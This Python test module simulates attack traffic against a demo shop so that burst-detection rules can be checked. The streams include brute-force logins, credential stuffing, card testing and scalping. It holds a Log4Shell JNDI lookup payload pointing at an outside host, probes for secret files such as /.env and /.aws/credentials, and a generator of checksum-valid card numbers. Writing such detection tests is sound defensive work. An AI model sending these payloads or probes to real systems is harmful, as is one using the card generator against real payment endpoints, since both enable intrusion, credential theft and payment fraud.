"""What each burst rule is there to find: one endless story for each, which knows the request that crosses."""

from __future__ import annotations

import random
from collections.abc import Iterator
from itertools import count
from string import ascii_uppercase

from ip_tracking.detection.pages import NO_REFERER
from ip_tracking.detection.rules import RULES
from shop.orders.payment import APPROVED, Card
from tests.simulators.request import (
    CHECKOUT,
    Request,
    Story,
    add,
    fail_login,
    log_in,
    pay,
    product,
    register,
    try_coupon,
    word,
)

# Among the first of the demo shop, and 180 of it in stock.
SOLD = "LIG-00002"

THRESHOLDS = {rule.name: rule.threshold for rule in RULES}


def until_crossing(rule: str, seed: int = 0) -> list[Request]:
    """The story of a rule up to the request that crosses its threshold: the last one."""
    return _told(rule, seed, THRESHOLDS[rule])


def below(rule: str, seed: int = 0, share: float = 0.8) -> list[Request]:
    """The same client that stops at so much of the threshold."""
    return _told(rule, seed, int(THRESHOLDS[rule] * share))


def _told(rule: str, seed: int, times: int) -> list[Request]:
    told, requests = 0, []
    for request in STORIES[rule](random.Random(seed)):
        if told == times:
            break
        requests.append(request)
        told += request.tells
    return requests


def brute_force(chance: random.Random) -> Iterator[Request]:
    name = word(chance)
    for number in count():
        yield fail_login(number * 25, account=name, body={"username": name, "password": word(chance)})


def hammer_login(chance: random.Random) -> Iterator[Request]:
    name = word(chance)
    for number in count():
        yield fail_login(number / 5, account=name, body={"username": name, "password": word(chance)})


def repeat_login(chance: random.Random) -> Iterator[Request]:
    """As a log tells it, which knows no outcome: a form that answers every password with a redirect."""
    for number in count():
        yield Request(number * 1.5, "/account/login", method="POST", status=302, body={"password": word(chance)})


def stuff(every_s: float) -> Story:
    def story(chance: random.Random) -> Iterator[Request]:
        for number in count():
            name = f"{word(chance)}{number}"
            yield fail_login(number * every_s, account=name, body={"username": name, "password": word(chance)})
            if number % 4 == 3:  # an account whose owner used the stolen password here too
                name = f"{word(chance)}-{number}"
                yield log_in(
                    number * every_s + 1,
                    outcome="login_ok",
                    account=name,
                    body={"username": name, "password": word(chance)},
                    tells=False,
                )

    return story


def probe(chance: random.Random) -> Iterator[Request]:
    for number in count():
        yield Request(number * 5, f"/{word(chance)}-{number}/", status=404)


def enumerate_names(chance: random.Random) -> Iterator[Request]:
    for number in count():
        yield Request(number * 1.5, f"/api/v1/{word(chance)}-{number % 999}", status=404)


def look_for_software(chance: random.Random) -> Iterator[Request]:
    doors = ["/wp-login.php", "/phpmyadmin/", "/cgi-bin/test-cgi", "/typo3/", "/administrator/"]
    chance.shuffle(doors)
    for number, door in enumerate(doors):
        yield Request(number * 60, door, status=404)


def hammer_software(chance: random.Random) -> Iterator[Request]:
    for number in count():
        yield Request(number * 15, "/wp-login.php", method="POST", status=404, body={"pwd": word(chance)})


def look_for_secrets(chance: random.Random) -> Iterator[Request]:
    files = ["/.env", "/.git/config", "/backup.sql", "/.aws/credentials"]
    chance.shuffle(files)
    for number, file in enumerate(files):
        yield Request(number * 100, file, status=404)


def exploit(chance: random.Random) -> Iterator[Request]:
    yield product(0, f"/api/v1/products/{word(chance)}/", tells=False)
    yield Request(3, "/api/v1/products/", "search=${jndi:ldap://198.51.100.7/a}")


def scan_with_a_tool(chance: random.Random) -> Iterator[Request]:
    yield Request(0, "/", agent=f"sqlmap/1.{chance.randrange(9)}#stable (https://sqlmap.org)")


def speak_no_http(chance: random.Random) -> Iterator[Request]:
    for number in count():
        yield Request(number * 10, f"\x03\x00\x00/\xe0{word(chance)}", method="", agent="", status=400)


def try_cards(every_s: float, user: str) -> Story:
    def story(chance: random.Random) -> Iterator[Request]:
        for number in count():
            basket = {"items": [{"sku": SOLD, "quantity": 1}], "card": _stolen_card(chance)}
            yield product(number * every_s, "/api/v1/products/cheap-lamp/", user=user, tells=False)
            yield pay(number * every_s + 1, status=402, outcome="payment_declined", user=user, body=basket)

    return story


def _stolen_card(chance: random.Random) -> str:
    digits = "".join(chance.choices("0123456789", k=15))
    return next(number for check in range(10) if Card(number := f"{digits}{check}").is_well_formed)


def crack_coupons(chance: random.Random) -> Iterator[Request]:
    for number in count():
        yield try_coupon(number * 120, status=422, outcome="coupon_refused", body={"code": word(chance)})


def hold_stock(chance: random.Random) -> Iterator[Request]:
    for number in count():
        yield product(number * 5, f"/api/v1/products/{word(chance)}/", tells=False)
        yield add(number * 5 + 1, body={"sku": SOLD, "quantity": 9})


def hammer_cart(chance: random.Random) -> Iterator[Request]:
    for number in count():
        yield add(number / 7, body={"sku": SOLD, "quantity": 1 + chance.randrange(2)})


def scalp(chance: random.Random) -> Iterator[Request]:
    for number in count():
        yield product(number, "/api/v1/products/limited-sneaker/", tells=False)
        body = {"items": [{"sku": SOLD, "quantity": 1 + chance.randrange(2)}], "card": APPROVED}
        yield pay(number + 0.5, outcome="payment_ok", body=body)


def create_accounts(chance: random.Random) -> Iterator[Request]:
    for number in count():
        name = f"{word(chance)}{number}"
        yield register(number * 300, body={"username": name, "email": f"{name}@example.org", "password": word(chance)})


def crawl(chance: random.Random) -> Iterator[Request]:
    for number in count():
        yield product(number / 25, f"/api/v1/products/{word(chance)}-{number}/")


def scrape(chance: random.Random) -> Iterator[Request]:
    """As a log tells it, which knows the referer: as slowly as it may, and a robots.txt now and then."""
    for number in count():
        yield Request(number * 0.5, f"/products/{word(chance)}-{number}/", referer=NO_REFERER)
        if number % 10 == 0:
            yield Request(number * 0.5 + 0.1, "/robots.txt", referer=NO_REFERER, tells=False)


def switch_agents(chance: random.Random) -> Iterator[Request]:
    for number in count():
        version = 20 + chance.randrange(5) + number * 5 % 40
        system = f"Windows NT 6.{chance.randrange(4)}; rv:{version}.{number}"
        yield Request(number / 2, "/", agent=f"Mozilla/5.0 ({system}) Gecko/20100101 Firefox/{version}.{number}")


def bust_caches(chance: random.Random) -> Iterator[Request]:
    for number in count():
        bare = str(chance.randrange(2_000_000, 90_000_000))
        named = f"{word(chance, ascii_uppercase)}={word(chance, ascii_uppercase)}"
        yield Request(number / 3, "/", bare if number % 2 else named)


def keep_hammering(chance: random.Random) -> Iterator[Request]:
    for number in count():
        yield Request(number * 1.9 + chance.random() / 10, CHECKOUT, method="POST", status=429, refused="site")


STORIES: dict[str, Story] = {
    "login-brute-force": brute_force,
    "login-hammering": hammer_login,
    "login-repetition": repeat_login,
    "credential-stuffing": stuff(every_s=50),
    "slow-credential-stuffing": stuff(every_s=110),
    "probing": probe,
    "enumeration": enumerate_names,
    "foreign-software": look_for_software,
    "foreign-hammering": hammer_software,
    "sensitive-files": look_for_secrets,
    "exploit-attempt": exploit,
    "attack-tool": scan_with_a_tool,
    "malformed-requests": speak_no_http,
    "card-testing": try_cards(every_s=30, user="7"),
    "carding": try_cards(every_s=130, user=""),
    "coupon-cracking": crack_coupons,
    "stock-holding": hold_stock,
    "cart-hammering": hammer_cart,
    "scalping": scalp,
    "account-creation": create_accounts,
    "crawling": crawl,
    "scraping": scrape,
    "agent-switching": switch_agents,
    "cache-busting": bust_caches,
    "keeps-hammering": keep_hammering,
}
